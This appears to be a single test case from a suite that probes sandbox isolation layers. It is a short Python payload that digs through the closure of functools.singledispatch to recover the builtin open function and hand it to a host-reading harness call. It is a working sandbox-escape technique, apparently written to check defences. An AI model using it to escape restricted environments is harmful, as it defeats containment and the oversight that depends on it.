# technique: what a library function has closed over
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools

def trick():
    for cell in functools.singledispatch(print).register.__closure__:
        found = cell.cell_contents
        if callable(found) and hasattr(found, "__globals__"):
            return found.__globals__["__builtins__"]["open"]
    raise LookupError("no such cell")

read_host(trick)
